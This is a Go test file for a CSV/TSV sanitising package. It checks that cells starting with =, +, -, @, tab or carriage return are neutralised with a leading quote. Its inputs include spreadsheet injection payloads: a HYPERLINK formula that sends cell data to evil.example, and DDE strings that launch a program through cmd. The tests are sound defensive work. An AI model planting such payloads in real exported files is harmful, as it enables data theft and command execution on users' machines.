package csvsafe_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/scamgraph/scamgraph/internal/csvsafe"
)

func TestCell(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain name", "Chen Zhi", "Chen Zhi"},
		{"empty", "", ""},
		{"formula", `=HYPERLINK("http://evil.example/?d="&A1,"x")`, `'=HYPERLINK("http://evil.example/?d="&A1,"x")`},
		{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1,2)", "'@SUM(1,2)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"formula later in the cell", "Prince =1", "Prince =1"},
		{"negative number", "-5", "-5"},
		{"signed decimal", "+1.5e3", "+1.5e3"},
		{"phone number", "+855 12 345 678", "'+855 12 345 678"},
		{"minus word", "-ish", "'-ish"},
		{"already quoted", "'=1", "'=1"},
		{"unicode", "Trần Thị Hà", "Trần Thị Hà"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := csvsafe.Cell(tt.in); got != tt.want {
				t.Fatalf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	rows := [][]string{{"id", "name"}, {"person:x", "=1+1"}, {"company:y", "a,b \"c\"\nd"}, {"n", "-7"}}
	want := [][]string{{"id", "name"}, {"person:x", "'=1+1"}, {"company:y", "a,b \"c\"\nd"}, {"n", "-7"}}
	tests := []struct {
		name  string
		new   func(*strings.Builder) *csvsafe.Writer
		comma rune
	}{
		{"csv", func(b *strings.Builder) *csvsafe.Writer { return csvsafe.NewWriter(b) }, ','},
		{"tsv", func(b *strings.Builder) *csvsafe.Writer { return csvsafe.NewTSVWriter(b) }, '\t'},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b strings.Builder
			w := tt.new(&b)
			for _, r := range rows {
				orig := slices.Clone(r)
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
				if !slices.Equal(r, orig) {
					t.Fatalf("Write changed its record: %q", r)
				}
			}
			w.Flush()
			if err := w.Error(); err != nil {
				t.Fatal(err)
			}
			rd := csv.NewReader(strings.NewReader(b.String()))
			rd.Comma = tt.comma
			got, err := rd.ReadAll()
			if err != nil {
				t.Fatalf("read back %q: %v", b.String(), err)
			}
			if len(got) != len(want) {
				t.Fatalf("read back %q, want %q", got, want)
			}
			for i := range want {
				if !slices.Equal(got[i], want[i]) {
					t.Fatalf("row %d = %q, want %q", i, got[i], want[i])
				}
			}
		})
	}
}
